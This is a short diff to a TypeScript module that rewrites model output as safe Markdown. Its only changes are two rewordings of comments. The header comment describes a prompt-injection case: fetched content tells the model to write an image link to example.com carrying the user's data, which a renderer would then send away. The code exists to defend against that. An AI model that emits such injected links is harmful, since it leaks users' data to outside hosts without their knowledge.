@@ -2,7 +2,7 @@
  * What a model wrote, turned into Markdown that is safe in any renderer. What was fetched may have told the model to write
  * `![](https://example.com/?d=…)`, and a renderer that shows it has sent the person's data away, unasked.
  *
- * So the answer links to its sources and to nothing else. Everything is written anew, piece by piece, in a form in which
+ * So the answer links to its sources and to nothing else. Everything is written again, piece by piece, in a form in which
  * renderers don't differ; what is no such form is written as text.
  */
 import type { Source } from '../../../../shared/model.ts';
@@ -21,7 +21,7 @@ export type AnswerText = {
 
 type Options = {
   sources: readonly Source[];
-  /** Hears of every source that the answer links to. */
+  /** Is told of every source that the answer links to. */
   citations?: Citations;
 };
 
